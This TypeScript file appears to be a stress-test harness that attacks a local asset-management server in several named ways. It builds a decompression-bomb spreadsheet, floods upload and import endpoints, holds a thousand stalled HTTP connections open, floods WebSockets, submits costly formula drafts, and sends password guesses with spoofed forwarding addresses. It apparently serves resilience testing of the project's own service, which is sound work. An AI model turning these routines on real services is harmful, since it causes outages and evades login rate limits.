/** One organisation at its worst, in a process of its own and behind everyone on the machine. It goes on until its parent lets go of it. */
import { connect } from 'node:net'
import { setPriority } from 'node:os'
import { setTimeout as sleep } from 'node:timers/promises'
import { deflateRawSync } from 'node:zlib'
import { writeXlsx } from 'hucre/xlsx'
import { WebSocket } from 'ws'
import { boundlessFormulas, costlyFormulas, costlyPatterns, flowWith } from './costlyForms.ts'

/** What is attacked: the server, and who does it, an administrator on trial. */
export type Target = { readonly port: number; readonly uid: string; readonly token: string; readonly locations: number }

setPriority(15)
const target = JSON.parse(process.argv[3]!) as Target
const { port, uid, token } = target
const url = `http://127.0.0.1:${port}`
const bearer = { authorization: `bearer ${token}` }
const books = `${url}/api/goods/gsgoodsinstance`
const workflow = `${url}/api/workflow`

/** Does `one` over and over, so many at once. */
const flood = (lanes: number, one: (lane: number, round: number) => Promise<unknown>): void => {
  for (let lane = 0; lane < lanes; lane++)
    void (async () => {
      for (let round = 0; ; round++) {
        await one(lane, round).catch(() => undefined)
        // The person who is refused at once asks again at once, as a hostile client would, but lets others of this process go on.
        await sleep(1)
      }
    })()
}
const sent = async (address: string, name: string, bytes: Uint8Array): Promise<unknown> => {
  const form = new FormData()
  form.append('file', new Blob([Buffer.from(bytes)]), name)
  return (await fetch(address, { method: 'POST', headers: bearer, body: form })).json()
}
const asked = async (address: string, body: object, headers: Record<string, string> = bearer): Promise<unknown> =>
  (await fetch(address, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify(body) })).json()

const posted = async (path: string, body: object): Promise<Readonly<Record<string, unknown>>> => {
  const { code, msg, data } = (await asked(workflow + path, body)) as { code: number; msg: string; data: Readonly<Record<string, unknown>> }
  if (code !== 0) throw new Error(`${path}: ${msg}`)
  return data
}

/** A small archive: a sheet of as many cells as fit into `megabytes` unpacked. */
const bomb = (megabytes: number): Buffer => {
  const cells = '<row>' + '<c t="inlineStr"><is><t>a</t></is></c>'.repeat(1000) + '</row>'
  const body = `<worksheet><sheetData>${cells.repeat(Math.floor((megabytes * 1024 * 1024) / cells.length))}</sheetData></worksheet>`
  const files: [name: string, text: string][] = [
    ['[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'],
    ['_rels/.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'],
    ['xl/workbook.xml', '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'],
    ['xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'],
    ['xl/worksheets/sheet1.xml', body],
  ] // prettier-ignore
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, text] of files) {
    const [packed, title] = [deflateRawSync(text), Buffer.from(name)]
    const sizes = Buffer.alloc(22)
    sizes.writeUInt16LE(20, 0)
    sizes.writeUInt16LE(8, 4)
    sizes.writeUInt32LE(packed.length, 14)
    sizes.writeUInt32LE(Buffer.byteLength(text), 18)
    const name2 = Buffer.from([title.length, 0, 0, 0])
    const local = Buffer.concat([Buffer.from('504b0304', 'hex'), sizes, name2, title, packed])
    const end = Buffer.alloc(14)
    end.writeUInt32LE(offset, 10)
    directory.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), sizes, name2, end, title]))
    parts.push(local)
    offset += local.length
  }
  const central = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(files.length, 8)
  end.writeUInt16LE(files.length, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...parts, central, end])
}

const register = (rows: number): Promise<Uint8Array> =>
  writeXlsx({
    sheets: [
      {
        name: '资产',
        rows: [
          ['资产编码', '资产名称', '资产型号', '序列号', '原值', '购置日期', '所在区域'],
          ...Array.from({ length: rows }, (_, n) => [
            `F${n}`, '联想笔记本电脑', `M${1 + (n % 12)}`, `PF${n * 7919}`, 4999 + (n % 100), '2024-03-15', `L${1 + (n % target.locations)}`,
          ]), // prettier-ignore
        ],
      },
    ],
  })

const attacks: Readonly<Record<string, () => Promise<void> | void>> = {
  /** Twelve small workbooks at once that take gigabytes where no one looks. */
  bombs: () => {
    const bytes = bomb(300)
    flood(12, () => sent(`${books}/import/upload`, 'a.xlsx', bytes))
  },
  /** Twelve checks at once of a sheet of 50,000 rows. */
  imports: async () => {
    const answer = (await sent(`${books}/import/upload`, 'a.xlsx', await register(50_000))) as { data: { id: string } }
    flood(12, () => asked(`${books}/import/check`, { id: answer.data.id }))
  },
  /** A thousand connections whose bodies do not come, and who stay after they were told. */
  stalls: () => {
    const stall = (path: string) => {
      const socket = connect({ port, host: '127.0.0.1', allowHalfOpen: true })
      socket.on('error', () => undefined).resume()
      socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`)
      socket.once('close', () => setTimeout(() => stall(path), 100))
    }
    for (let n = 0; n < 1000; n++) stall(n % 2 ? '/api/oauth/token' : '/api/goods/gsgoodsinstance/list')
  },
  /** Forty uploads at once of 20 MB of text. */
  uploads: () => {
    const bytes = Buffer.alloc(20 * 1024 * 1024 - 1000, '在册\n')
    flood(40, () => sent(`${url}/systemController/filedeal.do?isup=1`, 'a.txt', bytes))
  },
  /** Sockets without end, each of which says as much as it can. */
  sockets: () =>
    flood(20, async () => {
      const socket = new WebSocket(`ws://127.0.0.1:${port}/api/websocket/${uid}_mobile?token=${token}`)
      socket.on('error', () => undefined)
      await new Promise((done) => socket.once('open', done).once('close', done))
      while (socket.readyState === socket.OPEN) {
        for (let n = 0; n < 200; n++) socket.send('ping')
        await sleep(1)
      }
    }),
  /** Drafts of 0.95 MB held against costly expressions. */
  patterns: async () => {
    const { design, form } = costlyPatterns()
    const flowKey = await flowWith(posted, design)
    flood(8, () => asked(`${workflow}/draft/save`, { flowKey, form, revision: 0 }))
  },
  /** Drafts whose formulas cost as much as formulas may, and designs with formulas that cost more. */
  formulas: async () => {
    const { design, form } = costlyFormulas()
    const flowKey = await flowWith(posted, design)
    const boundless = boundlessFormulas()
    flood(8, (lane) =>
      lane < 6
        ? asked(`${workflow}/draft/save`, { flowKey, form, revision: 0 })
        : asked(`${workflow}/form/save`, { formName: `boundless${lane}`, revision: 0, design: boundless }),
    )
  },
  /** Wrong passwords from everywhere. */
  guesses: () =>
    flood(300, async (lane, round) => {
      await fetch(`${url}/api/oauth/token`, {
        method: 'POST',
        headers: {
          authorization: `Basic ${Buffer.from('app:app').toString('base64')}`,
          'content-type': 'application/x-www-form-urlencoded',
          'x-forwarded-for': `10.${lane % 250}.${round % 250}.${(lane + round) % 250}`,
        },
        body: new URLSearchParams({ grant_type: 'password', username: `nobody${lane}-${round}`, password: 'wrong' }),
      }).then((answer) => answer.text())
    }),
}

await attacks[process.argv[2]!]!()
process.send!('under way')
process.once('disconnect', () => process.exit())
